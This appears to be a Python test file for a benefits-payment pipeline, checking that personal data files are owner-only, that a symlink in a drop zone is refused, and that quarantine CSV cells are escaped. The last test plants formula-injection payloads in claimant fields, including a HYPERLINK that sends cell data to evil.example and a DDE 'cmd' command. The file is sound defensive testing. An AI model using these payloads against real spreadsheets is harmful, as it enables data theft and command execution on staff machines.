"""Least privilege: personal data readable by its owner only, no link followed, no formula."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from pathlib import Path

from payments.pipeline import run_batch
from payments.schemes import load_scheme
from tests.faults.runs import edit_fund_file, sample
from tests.households import SECRET


def _payments(data: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PAYMENTS_DATA_DIR": str(data), "PAYMENTS_DEMO": "1"}
    env.pop("PAYMENTS_LEDGER_URL", None)
    return subprocess.run(
        [sys.executable, "-m", "payments", *args], env=env, capture_output=True, text=True
    )


def test_personal_data_at_rest_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    """M9: accepted/quarantine/decisions/archive/received files and the ledger were 0644."""
    data = tmp_path / "data"
    for args in (
        ("sample", "--households", "300", "--funds", "13,75"),
        ("run", "--funds", "13,75"),
    ):
        done = _payments(data, *args)
        assert done.returncode == 0, done.stderr[-2000:]
    open_to_others = [
        f"{oct(path.stat().st_mode & 0o777)} {path.relative_to(data)}"
        for path in [data, *data.rglob("*")]
        if not path.is_symlink() and path.stat().st_mode & 0o077
    ]
    assert not open_to_others, open_to_others[:10]
    names = {p.name for p in data.rglob("*")}
    assert {"accepted.parquet", "decisions.parquet", "ledger.sqlite"} <= names


def test_a_link_in_a_drop_zone_is_refused_not_followed(tmp_path: Path) -> None:
    """L1: a symlink in a local inbox was followed; the 0600 secret ended in the archive."""
    sample(tmp_path, ("13", "75"))
    secret = tmp_path / "secrets" / "beneficiary-key"
    secret.parent.mkdir(mode=0o700)
    secret.write_text("ab" * 32 + "\n")
    target = tmp_path / "funds" / "75" / "75_aes-2020-05.csv"
    target.unlink()
    target.symlink_to(Path("../../secrets/beneficiary-key"))
    result = run_batch(tmp_path, load_scheme("aes-2020-05"), secret=SECRET, funds=["13", "75"])
    by_fund = {f.fund_code: f for f in result.validation.funds}
    assert by_fund["75"].status == "rejected"
    assert "symbolic link" in (by_fund["75"].message or "")
    assert by_fund["13"].status != "rejected"
    archived = [p.read_bytes() for p in (tmp_path / "archive").rglob("*") if p.is_file()]
    assert not any(secret.read_bytes() in a for a in archived)


def test_no_cell_of_the_quarantine_csv_is_read_as_a_formula(tmp_path: Path) -> None:
    """L3: =HYPERLINK(…) and +cmd|… came out verbatim in the CSV fund staff open."""
    sample(tmp_path, ("13",))

    def poison(rows: list[list[str]], col: dict[str, int]) -> None:
        rows[0][col["claimant_nir"]] = "not-a-nir"
        rows[0][col["claimant_last_name"]] = '=HYPERLINK("http://evil.example/?d="&A1,"Voir")'
        rows[0][col["claimant_first_name"]] = "+cmd|' /C calc'!A0"
        rows[1][col["claimant_nir"]] = "@SUM(1+1)"

    edit_fund_file(tmp_path, "13", poison)
    result = run_batch(tmp_path, load_scheme("aes-2020-05"), secret=SECRET, funds=["13"])
    csv = next(result.out_dir.rglob("quarantine.csv")).read_text(encoding="utf-8-sig")
    cells = [c.strip('"') for line in csv.splitlines()[1:] for c in line.split(";")]
    assert cells, csv
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert not formulas, formulas
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert any(c.startswith("'@SUM") for c in cells)
    assert stat.S_IMODE((tmp_path / "funds").stat().st_mode) is not None
